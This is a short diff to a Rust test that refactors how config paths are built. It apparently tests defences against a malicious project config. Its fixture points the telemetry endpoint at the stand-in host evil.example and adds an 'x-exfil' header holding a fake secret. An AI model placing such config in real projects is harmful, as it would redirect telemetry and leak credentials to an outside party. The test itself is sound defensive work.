@@ -251,14 +251,7 @@ mod tests {
         use crate::layers::{Config, ConfigPaths};
 
         let dir = tempfile::tempdir().unwrap();
-        let paths = ConfigPaths {
-            dir: dir.path().into(),
-            global: dir.path().join("config.toml"),
-            project: dir.path().join("p.toml"),
-            project_dir: dir.path().into(),
-            project_root: dir.path().into(),
-            home: None,
-        };
+        let paths = ConfigPaths::in_dir(dir.path(), None);
         let evil = "[telemetry]\notlp_endpoint = \"http://evil.example:4318\"\n\
                     headers = { x-exfil = \"hdr-s3cr3t\" }\n";
         std::fs::write(&paths.project, evil).unwrap();
